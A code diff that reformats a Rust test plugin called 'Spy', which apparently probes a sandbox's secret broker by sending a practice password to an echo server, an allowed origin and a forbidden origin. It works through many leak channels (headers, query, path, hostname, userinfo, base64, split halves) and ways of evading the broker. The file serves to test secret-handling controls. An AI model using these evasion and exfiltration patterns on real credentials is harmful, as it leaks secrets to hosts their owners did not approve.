@@ -19,7 +19,11 @@ impl Plugin for Spy {
             .setting(Setting::url("endpoint", "an echo").required())
             .setting(Setting::text("granted", "an origin that the operator allowed").required())
             .setting(Setting::text("foreign", "an origin that the operator did not allow").required())
-            .setting(Setting::secret("password", "what this is after").required().env("PRACTICE_PASSWORD"))
+            .setting(
+                Setting::secret("password", "what this is after")
+                    .required()
+                    .env("PRACTICE_PASSWORD"),
+            )
             .origin("{endpoint}", "the echo")
             .origin("http://*:*", "wherever somebody listens")
     }
@@ -36,7 +40,11 @@ impl Spy {
     fn try_one(&mut self, what: &str, request: Request) -> Option<bootmachine_sdk::http::Response> {
         match request.send() {
             Ok(response) => {
-                let headers: Vec<String> = response.headers.iter().map(|header| format!("{}: {}", header.name, header.value)).collect();
+                let headers: Vec<String> = response
+                    .headers
+                    .iter()
+                    .map(|header| format!("{}: {}", header.name, header.value))
+                    .collect();
                 self.note(format!("{what}: {} [{}] {}", response.status, headers.join(", "), response.text()));
                 Some(response)
             }
@@ -61,7 +69,12 @@ impl Provider for Spy {
         let mut spy = Self { seen: Vec::new() };
         let get = |name: &str| settings.require(name).map(|value| value.trim_end_matches('/').to_owned());
         let (endpoint, granted, foreign, password) = (get("endpoint")?, get("granted")?, get("foreign")?, get("password")?);
-        for (name, value) in [("endpoint", &endpoint), ("granted", &granted), ("foreign", &foreign), ("password", &password)] {
+        for (name, value) in [
+            ("endpoint", &endpoint),
+            ("granted", &granted),
+            ("foreign", &foreign),
+            ("password", &password),
+        ] {
             spy.note(format!("setting {name}: {value}"));
         }
         let encoded = STANDARD.encode(&password);
@@ -69,45 +82,104 @@ impl Provider for Spy {
         let json = |value: &str| format!("{{\"password\":\"{value}\"}}");
 
         // Where the secret may go, and everything that comes back.
-        spy.try_one("header", Request::get(format!("{endpoint}/plain")).header("x-password", password.clone()));
-        spy.try_one("bearer", Request::get(format!("{endpoint}/plain")).header("authorization", format!("Bearer {password}")));
+        spy.try_one(
+            "header",
+            Request::get(format!("{endpoint}/plain")).header("x-password", password.clone()),
+        );
+        spy.try_one(
+            "bearer",
+            Request::get(format!("{endpoint}/plain")).header("authorization", format!("Bearer {password}")),
+        );
         spy.try_one("query", Request::get(format!("{endpoint}/plain?password={password}")));
-        for form in ["plain", "base64", "base64url", "percent", "json", "unicode", "hex", "xml", "header", "gzip", "fail"] {
-            let body = Request::post(format!("{endpoint}/{form}")).idempotent(true).body("application/json", json(&password));
+        for form in [
+            "plain",
+            "base64",
+            "base64url",
+            "percent",
+            "json",
+            "unicode",
+            "hex",
+            "xml",
+            "header",
+            "gzip",
+            "fail",
+        ] {
+            let body = Request::post(format!("{endpoint}/{form}"))
+                .idempotent(true)
+                .body("application/json", json(&password));
             spy.try_one(form, body);
         }
         spy.try_one("form", Request::post(format!("{endpoint}/plain")).form(&[("password", &password)]));
-        spy.try_one("redirect", Request::get(format!("{endpoint}/redirect")).header("x-password", password.clone()));
+        spy.try_one(
+            "redirect",
+            Request::get(format!("{endpoint}/redirect")).header("x-password", password.clone()),
+        );
         // Asking for a reference to an echoed secret that may go elsewhere.
         let captured = Request::post(format!("{endpoint}/body"))
             .idempotent(true)
             .body("application/json", json(&password))
             .capture_json("/password", &[&granted]);
         if let Some(response) = spy.try_one("capture", captured) {
-            let again: Option<String> = response.json::<bootmachine_sdk::serde_json::Value>().ok().and_then(|body| Some(body["password"].as_str()?.to_owned()));
+            let again: Option<String> = response
+                .json::<bootmachine_sdk::serde_json::Value>()
+                .ok()
+                .and_then(|body| Some(body["password"].as_str()?.to_owned()));
             if let Some(again) = again {
-                spy.try_one("captured elsewhere", Request::get(format!("{granted}/")).header("x-password", again));
+                spy.try_one(
+                    "captured elsewhere",
+                    Request::get(format!("{granted}/")).header("x-password", again),
+                );
             }
         }
 
         // Where it may not.
         spy.try_one("path", Request::get(format!("{endpoint}/{password}")));
         spy.try_one("header name", Request::get(format!("{endpoint}/plain")).header(&password, "x"));
-        spy.try_one("elsewhere", Request::get(format!("{granted}/")).header("x-password", password.clone()));
+        spy.try_one(
+            "elsewhere",
+            Request::get(format!("{granted}/")).header("x-password", password.clone()),
+        );
         spy.try_one("elsewhere, query", Request::get(format!("{granted}/?password={password}")));
-        spy.try_one("elsewhere, body", Request::post(format!("{granted}/")).body("text/plain", password.clone()));
-        spy.try_one("foreign", Request::get(format!("{foreign}/")).header("x-password", password.clone()));
+        spy.try_one(
+            "elsewhere, body",
+            Request::post(format!("{granted}/")).body("text/plain", password.clone()),
+        );
+        spy.try_one(
+            "foreign",
+            Request::get(format!("{foreign}/")).header("x-password", password.clone()),
+        );
         spy.try_one("host", Request::get(format!("http://{password}.invalid/")));
-        spy.try_one("user", Request::get(format!("http://{password}@{}/", granted.trim_start_matches("http://"))));
-        for answer in send_all(vec![Request::get(format!("{granted}/batch")).header("x-password", password.clone())]) {
+        spy.try_one(
+            "user",
+            Request::get(format!("http://{password}@{}/", granted.trim_start_matches("http://"))),
+        );
+        for answer in send_all(vec![
+            Request::get(format!("{granted}/batch")).header("x-password", password.clone()),
+        ]) {
             spy.note(format!("batch: {answer:?}"));
         }
 
         // What no broker can see, and what is worth nothing.
-        spy.try_one("base64 elsewhere", Request::get(format!("{granted}/")).header("x-password", encoded.clone()));
-        spy.try_one("halves elsewhere", Request::get(format!("{granted}/")).header("x-one", half).header("x-two", other_half));
-        spy.try_one("base64 in the path", Request::get(format!("{granted}/{}", encoded.trim_end_matches('='))));
-        spy.try_one("halves", Request::get(format!("{endpoint}/plain")).header("x-one", half).header("x-two", other_half));
+        spy.try_one(
+            "base64 elsewhere",
+            Request::get(format!("{granted}/")).header("x-password", encoded.clone()),
+        );
+        spy.try_one(
+            "halves elsewhere",
+            Request::get(format!("{granted}/"))
+                .header("x-one", half)
+                .header("x-two", other_half),
+        );
+        spy.try_one(
+            "base64 in the path",
+            Request::get(format!("{granted}/{}", encoded.trim_end_matches('='))),
+        );
+        spy.try_one(
+            "halves",
+            Request::get(format!("{endpoint}/plain"))
+                .header("x-one", half)
+                .header("x-two", other_half),
+        );
         Ok(spy)
     }
 
